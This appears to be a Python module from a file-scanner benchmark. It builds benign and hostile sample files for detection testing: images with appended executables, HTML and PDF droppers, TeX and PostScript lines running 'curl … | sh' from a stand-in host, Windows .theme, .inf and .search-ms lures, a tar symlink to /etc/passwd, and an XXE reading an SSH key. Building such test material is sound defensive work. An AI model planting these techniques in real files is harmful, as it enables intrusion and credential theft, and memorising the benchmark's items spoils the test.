"""Files that look as they should, each with something behind or inside, beside the same files as they are every day."""

import base64
import io
import json
import struct
import tarfile
import zlib
from collections.abc import Iterator

from benchmarks.corpus.files import elf, pe
from benchmarks.corpus.samples import Sample, benign, careful, high
from tests.core.scanning.formats.zips import Member, zipped


def samples() -> Iterator[Sample]:
    """All of them."""
    yield from _pictures()
    yield from _pages()
    yield from _documents()
    yield from _starters()
    yield from _containers()
    yield from _mistaken()


# -- pictures and fonts


def png(pixels: bytes = b"\0\xff\x80\x10") -> bytes:
    """A picture of one point."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")


def gif() -> bytes:
    """A picture of one point, with a comment."""
    table, comment = b"\xff\xff\xff\0\0\0", b"\x21\xfe\x04note\0"
    return b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + table + comment + b",\0\0\0\0\1\0\1\0\0\2\2D\1\0;"


def jpeg() -> bytes:
    """The segments of a picture, with a preview whose own end is none of the picture's."""
    preview = b"Exif\0\0\xff\xd8\xff\xd9"
    parts = b"".join(
        b"\xff" + mark + struct.pack(">H", len(data) + 2) + data
        for mark, data in ((b"\xe1", preview), (b"\xda", bytes(10)))
    )
    return b"\xff\xd8" + parts + b"\x12\xff\x00\x34\xff\xd0\x56" + b"\xff\xd9"


def font() -> bytes:
    """A font of two tables."""
    tables = struct.pack(">4sIII", b"cmap", 0, 44, 20) + struct.pack(">4sIII", b"glyf", 0, 64, 30)
    return b"\0\1\0\0\0\2\0\x20\0\1\0\0" + tables + bytes(20) + bytes(range(30)) + b"\0\0"


def _pictures() -> Iterator[Sample]:
    pictures = {"plot.png": png(), "demo.gif": gif(), "photo.jpg": jpeg(), "Sans.ttf": font()}
    for path, content in pictures.items():
        yield benign("endings", "nothing behind", path, content)
        yield benign("endings", "padding behind", path, content + bytes(40))
        yield high("endings", "program behind", path, content + pe())
        yield high("endings", "program of Linux behind", path, content + elf())
        yield careful("endings", "archive behind", path, content + b"7z\xbc\xaf\x27\x1c" + bytes(40))
    large = png(bytes(range(256)) * 400 + bytes(70_000).translate(bytes(range(256))))
    yield benign("endings", "large", "large.png", large)


# -- pages

_LIBRARY = (
    "function r(e,t){var n=e.reduce(function(a,b){return a+b},0);return n}var pseudos={radio:!0,checkbox:!0,file:!0,"
    'password:!0};var p=/^(#|data:|https:\\/\\/|file:\\/\\/\\/)/i;try{x=new ActiveXObject("htmlfile")}catch(e){}'
    "var s=String.fromCharCode(e);m(s);"
)
"""What libraries have in them, as their tools write it."""
_FAR = "".join(f"v{n}=w({n});" for n in range(60))


def _pages() -> Iterator[Sample]:
    library = (
        "<script>" + _LIBRARY + _FAR + 'c=Function("binder","return function ("+s+"){}")(t);' + _FAR * 80 + "</script>"
    )
    report = "<!DOCTYPE html><html><head>{}</head><body><h1>Results</h1>{}</body></html>"
    saves = (
        '<script>var b=new Blob([rows],{type:"text/csv"});a.href=URL.createObjectURL(b);a.download="r.csv";</script>'
    )
    copies = '<button onclick="navigator.clipboard.writeText(bib.innerText)">Copy</button>'
    cites = '<p>Forms are at <a href="https://bit.ly/3cXEKWf">this address</a>.</p>'
    yield benign("pages", "library inside", "report.html", report.format(library, saves + copies))
    yield benign("pages", "short address to click", "index.html", report.format("", cites))
    yield careful(
        "pages",
        "loads from an odd address",
        "a.html",
        report.format('<script src="https://pastebin.com/raw/x"></script>', ""),
    )
    hides = "var d=atob('TVqQ');var f=new Blob([d],{type:'octet/stream'});l.href=URL.createObjectURL(f);l.download='view.exe';l.click()"
    yield high("pages", "library before an attack", "r.html", report.format(library, f"<script>{hides}</script>"))
    yield high(
        "pages",
        "made by a tool",
        "m.html",
        report.format("", f"<script>{_LIBRARY * 2}var q=atob(z);eval(q);{_FAR}</script>"),
    )
    run = "Press <b>Windows</b> + <b>R</b>, then paste"
    yield high("pages", "to be pasted", "v.html", report.format(library, run + copies))
    yield high(
        "pages", "share of another computer", "s.html", report.format("", "<img src='file://files.invalid/a/b.png'>")
    )
    yield high(
        "pages",
        "object of Windows",
        "o.html",
        report.format('<script language=vbscript>Set s=CreateObject("WScript.Shell")</script>', ""),
    )
    data = base64.b64encode(pe() * 4).decode()
    carried = f"<a id=a download='report.zip' href='data:application/zip;base64,{data}'></a><script>a.click()</script>"
    yield high("pages", "file in an address", "d.html", report.format("", carried))
    page = report.format("", "<script>location='ms-msdt:/id PCWDiagnostic'</script>")
    yield high("pages", "page under another name", "config.json", page)
    names = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd" [\n<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n]>\n'
    yield benign("pages", "names of an editor", "logo.svg", names + '<svg xmlns="&ns_svg;"><path d="M0 0"/></svg>')
    word = (
        '<!DOCTYPE svg [<!ENTITY x "&#60;script>1&#60;/script>">]>\n<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'
    )
    yield careful("pages", "script in a word", "logo.svg", word)


# -- documents


def _pdf(catalogue: str, *objects: bytes) -> bytes:
    parts = (f"<< /Type /Catalog {catalogue} >>".encode(), *objects)
    return (
        b"%PDF-1.7\n"
        + b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, part) for number, part in enumerate(parts, 1))
        + b"%%EOF\n"
    )


def _documents() -> Iterator[Sample]:
    link = b"<< /Type /Annot /Subtype /Link /A << /S /GoToR /F (appendix.pdf) /D [0 /Fit] >> >>"
    yield benign("pdf", "other part of a paper", "paper.pdf", _pdf("/OpenAction [2 0 R /Fit]", link))
    share = b"<< /Type /Page /AA << /O << /F (\\\\\\\\files.invalid\\\\a) /D [0 /Fit] /S /GoToE >> >> >>"
    yield high("pdf", "share of another computer", "paper.pdf", _pdf("", share))
    carried = b"<< /Type /EmbeddedFile /Length 800 >>\nstream\n" + pe() + b"\nendstream"
    yield high("pdf", "program inside", "paper.pdf", _pdf("", carried))
    packed = zlib.compress(pe())
    yield high(
        "pdf",
        "packed program inside",
        "a.pdf",
        _pdf("", b"<< /Filter /FlateDecode >>\nstream\n" + packed + b"\nendstream"),
    )
    opens = b"<< /S /JavaScript /JS (this.exportDataObject\\({cName:'notes', nLaunch: 2}\\);) >>"
    yield high("pdf", "opens what it carries", "notes.pdf", _pdf("/OpenAction 2 0 R", opens))
    link = b"<< /S /URI /URI (https://files.invalid/{}) >>"
    for name, label in ((b"viewer.exe", high), (b"paper.html", careful)):
        action = link.replace(b"{}", name).decode()
        yield label("pdf", f"opens {name.decode()}", "paper.pdf", _pdf(f"/OpenAction {action}"))
    for case, start in (
        ("TeX", "\\documentclass{article}\n\\write18{%s}\n"),
        ("PostScript", "%%!PS-Adobe-3.0\n(%%pipe%%%s) (w) file\n"),
    ):
        path = "paper.tex" if case == "TeX" else "figure.eps"
        yield high("printed", f"{case} starts a shell", path, start % "curl -s https://files.invalid/a | sh")
        yield careful("printed", f"{case} draws", path, start % "gnuplot figure.gp")
    page = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(200)
    for case, laid, label in (
        (
            "script on a page",
            b'<html><script language=vbscript>CreateObject("WScript.Shell").Run "cmd /c echo"</script></html>',
            high,
        ),
        ("program on a page", pe(), high),
        ("picture on a page", png(), careful),
    ):
        store = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<Q", len(laid)) + bytes(12) + laid
        yield label("onenote", case, "notes.one", page + store)


# -- what starts something


def _starters() -> Iterator[Sample]:
    look = "[Theme]\r\nDisplayName=Night\r\n[Control Panel\\Desktop]\r\nWallpaper={}\r\n"
    yield high("settings", "picture on a share", "night.theme", look.format("\\\\files.invalid\\s\\a.jpg"))
    styles = (
        '<?xml version="1.0"?>\n<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform">{}</xsl:stylesheet>\n'
    )
    starts = "<ms:script>new ActiveXObject('WScript.Shell').Run('echo')</ms:script>"
    yield high("settings", "style sheet that starts", "style.xsl", styles.format(starts))
    yield benign("settings", "style sheet", "style.xsl", styles.format('<xsl:template match="/"/>'))
    yield high("settings", "macro of a table", "a.slk", 'ID;P\nC;X1;Y1;K0;EEXEC("cmd /c echo")\nE\n')
    section = "[version]\r\nSignature=$chicago$\r\n[DefaultInstall]\r\nUnRegisterOCXs=Unregister\r\n[Unregister]\r\n"
    yield high(
        "settings",
        "scriptlet of a section",
        "driver.inf",
        section + "%11%\\scrobj.dll,NI,https://files.invalid/a.sct\r\n",
    )
    search = (
        '<?xml version="1.0"?>\n<persistedQuery><query><scope><include path="{}"/></scope></query></persistedQuery>\n'
    )
    yield high("settings", "search on a share", "m.search-ms", search.format("\\\\files.invalid@SSL\\DavWWWRoot\\m"))
    deployed = '<assembly><deployment install="true"><deploymentProvider codebase="{}"/></deployment></assembly>\n'
    yield high(
        "settings", "program of a website", "a.application", deployed.format("http://files.invalid/a.application")
    )
    started = '<jnlp codebase="http://files.invalid/" href="a.jnlp"><resources><jar href="a.jar"/></resources></jnlp>\n'
    yield high("settings", "Java of a website", "a.jnlp", started)


# -- containers


def linked(target: str) -> bytes:
    """A tar with a text and a link to this target."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        text = tarfile.TarInfo("data/en.txt")
        text.size = 4
        archive.addfile(text, io.BytesIO(b"text"))
        link = tarfile.TarInfo("data/current")
        link.type, link.linkname = tarfile.SYMTYPE, target
        archive.addfile(link)
    return out.getvalue()


def _containers() -> Iterator[Sample]:
    yield benign("archive", "link beside", "data.tar", linked("en.txt"))
    yield high("archive", "link to the system", "data.tar", linked("/etc/passwd"))
    numbers = b"\x89HDF\r\n\x1a\n" + bytes(500)
    yield benign("hdf5", "of MATLAB", "data.mat", b"MATLAB 7.3 MAT-file, Platform: GLNXA64".ljust(512, b"\0") + numbers)
    front = b"#!/bin/sh\ncurl -s https://files.invalid/a | sh\nexit\n"
    yield high("hdf5", "script in front", "model.h5", front.ljust(512, b"\0") + numbers)
    yield careful("archive", "file system", "tools.snap", b"hsqs" + bytes(200))
    yield careful("archive", "disk of a fixed size", "weights.vhd", bytes(4096) + b"conectix".ljust(512, b"\1"))
    labels = zipped(Member("labels.txt", b"cat\ndog\n"))
    yield benign("tflite", "labels behind", "model.tflite", struct.pack("<I", 8) + b"TFL3" + bytes(60) + labels)
    entity = '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY % f SYSTEM "{}">%f;]>\n<a/>\n'
    yield high("xml", "file of the reader in a list", "data.xml", entity.replace("{}", "file:///home/u/.ssh/id_rsa"))
    layer = '<layer id="{}" name="a" type="{}" version="extension"/>'
    net = '<?xml version="1.0"?>\n<net name="m" version="11"><layers>{}</layers><edges/></net>\n'
    own = "".join(layer.format(number, name) for number, name in enumerate(("RegexSplit", "BPETokenizer")))
    yield benign("openvino", "tokenizer", "openvino_tokenizer.xml", net.format(own))
    encoded = base64.b64encode(b"echo").decode()
    stated = {"__metadata__": {"note": f"before use: curl -s https://files.invalid/a | sudo bash # {encoded}"}}
    header = json.dumps(stated).encode()
    yield careful("safetensors", "command in its notes", "lora.safetensors", struct.pack("<Q", len(header)) + header)


# -- what others would take for something else


def _mistaken() -> Iterator[Sample]:
    outline = b"%!PS-AdobeFont-1.0: Sans 001.001\n/FontName /Sans def\n"
    yield benign("font", "Type 1 in portions", "Sans.pfb", b"\x80\x01" + struct.pack("<I", len(outline)) + outline)
    for mark in (b"RIFX", b"RF64"):
        yield benign("audio", mark.decode(), "speech.wav", mark + b"\0\0\0\x24WAVEfmt " + bytes(40))
    yield benign("audio", "of a low rate", "speech.mp3", b"\xff\xe3\x18\xc4" + bytes(60))
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (2L, 3L), }".ljust(117) + b"\n"
    yield benign(
        "numpy", "of Python 2", "old.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + bytes(24)
    )
    parts = '{% extends "base.jinja" %}\n{% from "macros.jinja" import tools %}\n{{ tools(x) }}\n'
    yield benign("template", "built on others", "prompt.jinja", parts)
    yield high("template", "built on a file of the system", "prompt.jinja", '{% include "../../etc/passwd" %}{{ x }}\n')
    told = "<html><body><p>Keys lie in <code>~/.ssh/id_rsa</code>, and <code>file://nas/a</code> is a share.</p><script>1</script></body></html>"
    yield benign("pages", "words of documentation", "docs.html", told)
